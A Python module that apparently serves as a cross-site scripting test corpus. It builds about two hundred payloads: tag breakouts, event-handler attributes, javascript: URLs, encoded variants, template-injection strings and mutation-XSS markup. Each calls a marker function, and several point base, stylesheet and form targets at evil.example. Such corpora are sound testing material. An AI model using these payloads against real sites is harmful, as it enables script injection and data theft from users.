"""Two hundred texts that try to become more than text, in every context a page can put them."""

from itertools import product

# The name of the function they all try to call, and the mark on all they try to make.
MARK = "zq7x"
RUN = f"{MARK}()"

_CORES = (
    f"<script {MARK}>{RUN}</script>",
    f"<img {MARK} src=x onerror={RUN}>",
    f"<svg {MARK} onload={RUN}>",
    f"<iframe {MARK} srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details {MARK} open ontoggle={RUN}>",
    f"<input {MARK} autofocus onfocus={RUN}>",
    f"<a {MARK} href=javascript:{RUN}>x</a>",
    f"<{MARK} style=position:fixed onpointerover={RUN}>",
    f"<object {MARK} data=x onerror={RUN}></object>",
)
# What has to be closed first, where the text stands inside of something.
_BREAKS = (
    *("", '">', "'>", "`>", "-->", "</title>", "</textarea>", "</style>", "</script>"),
    *("</select>", "]]>", "</noscript>", "</svg>", "</p></div></main>"),
)
_ATTRIBUTES = (
    f'" onmouseover={RUN} {MARK}="',
    f"' onmouseover={RUN} {MARK}='",
    f'" autofocus onfocus={RUN} {MARK}="',
    f"' autofocus onfocus={RUN} {MARK}='",
    f'"{MARK}=1 onanimationstart={RUN} style="animation:x',
    f"x {MARK} onclick={RUN}",
    f"x/{MARK}/onclick={RUN}",
    f'"/{MARK}/onload="{RUN}',
    f'" style="background:url(javascript:{RUN})" {MARK}="',
    f'" formaction="javascript:{RUN}" {MARK}="',
    f'" srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;" {MARK}="',
    f'\\" onmouseover={RUN} {MARK}=\\"',
)
_ADDRESSES = (
    *(f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"\tjavascript:{RUN}", f"java\tscript:{RUN}"),
    *(f" javascript:{RUN}", f"javascript\n:{RUN}", f"&#106;avascript:{RUN}", f"vbscript:{RUN}"),
    *(f"javascript://%0a{RUN}", f"data:text/html,<script>parent.{RUN}</script>"),
    *("data:text/html;base64,PHNjcmlwdD5wYXJlbnQuenE3eCgpPC9zY3JpcHQ+", f"//evil.example/{MARK}"),
    *(f"javascript:/*--></title></style></textarea></script><svg {MARK} onload={RUN}>",),
)
_ENCODED = (
    *(
        f"&lt;script {MARK}&gt;{RUN}&lt;/script&gt;",
        f"&#60;script {MARK}&#62;{RUN}&#60;/script&#62;",
    ),
    *(
        f"&#x3c;img {MARK} src=x onerror={RUN}&#x3e;",
        f"&amp;lt;img {MARK} src=x onerror={RUN}&amp;gt;",
    ),
    *(f"%3Cscript {MARK}%3E{RUN}%3C/script%3E", f"%253Cscript {MARK}%253E{RUN}%253C/script%253E"),
    *(
        f"\\u003cscript {MARK}\\u003e{RUN}\\u003c/script\\u003e",
        f"\\x3cimg {MARK} onerror={RUN}\\x3e",
    ),
    *(f"+ADw-script {MARK}+AD4-{RUN}+ADw-/script+AD4-", f"＜script {MARK}＞{RUN}＜/script＞"),
    *(f"<scr\u200bipt {MARK}>{RUN}</scr\u200bipt>", f"<ſcript {MARK}>{RUN}</ſcript>"),
    *(f"<script\n{MARK}>{RUN}</script\n>", f"<script/{MARK}/>{RUN}</script/>"),
    *(f"<<script {MARK}>{RUN}//<</script>", f"<scr<script {MARK}>ipt>{RUN}</scr</script>ipt>"),
    *(f"\u202e<img {MARK} src=x onerror={RUN}>", f"<IMG {MARK.upper()} SRC=x ONERROR={RUN}>"),
)
_TEMPLATES = (
    *("{{ 7|add:7 }}", "{% debug %}", f"${{{RUN}}}", f"`${{{RUN}}}`", f"#{{{RUN}}}"),
    *(f"<%= {RUN} %>", f"{{{{constructor.constructor('{RUN}')()}}}}", f"');{RUN}//", f'");{RUN}//'),
    *(f"';{RUN}//", f"</script><script {MARK}>{RUN}</script>//", f"%(x)s{{0}}{RUN}"),
)
# Harmless as it stands, but not when what a browser made of it is read by one once more.
_MUTATING = (
    f'<noscript><p title="</noscript><img {MARK} src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img {MARK} src=x onerror={RUN}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img {MARK} onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img {MARK} src onerror={RUN}>",
    f"<template><img {MARK} src=x onerror={RUN}></template>",
    f"<select><option><style></option></select><img {MARK} src=x onerror={RUN}></style>",
    f"<xmp><p title='</xmp><img {MARK} src=x onerror={RUN}>'>",
    f'<a {MARK} href="&#x6A;avascript:{RUN}">x</a>',
    f'<object {MARK} data="data:text/html,<script>parent.{RUN}</script>"></object>',
    f"<embed {MARK} src=javascript:{RUN}>",
    f'<meta {MARK} http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<base {MARK} href=//evil.example/>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
    f"<style {MARK}>@import '//evil.example/x.css';</style>",
    f"<form {MARK} action=//evil.example/><button>x</button></form>",
    f"<video {MARK}><source onerror={RUN}></video>",
    f"<audio {MARK} src onloadstart={RUN}>",
    f"<body {MARK} onload={RUN}>",
    f"<marquee {MARK} onstart={RUN}>x</marquee>",
    f"<button {MARK} popovertarget=x onbeforetoggle={RUN}>x</button>",
    f"<svg {MARK}><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg {MARK}><a xlink:href=javascript:{RUN}><text y=1em>x</text></a></svg>",
)
PAYLOADS: tuple[str, ...] = (
    *(before + core for before, core in product(_BREAKS, _CORES)),
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_ENCODED,
    *_TEMPLATES,
    *_MUTATING,
)
